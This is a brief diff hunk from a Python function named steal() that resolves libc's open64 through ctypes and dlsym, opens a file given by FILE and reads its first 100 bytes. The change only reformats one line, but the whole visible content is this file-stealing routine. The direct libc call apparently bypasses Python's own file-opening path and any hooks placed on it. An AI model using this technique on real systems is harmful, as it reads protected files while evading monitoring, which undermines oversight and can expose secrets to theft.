@@ -14,5 +14,7 @@ def steal():
     c = ctypes.CDLL(None)
     c.dlsym.restype = ctypes.c_void_p
     found = c.dlsym(ctypes.c_void_p(-1), b"open64") or c.dlsym(None, b"open64")
-    fd = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_char_p, ctypes.c_int)(found)(FILE.encode(), os.O_RDONLY)
+    fd = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_char_p, ctypes.c_int)(found)(
+        FILE.encode(), os.O_RDONLY
+    )
     return os.read(fd, 100) if fd >= 0 else ""
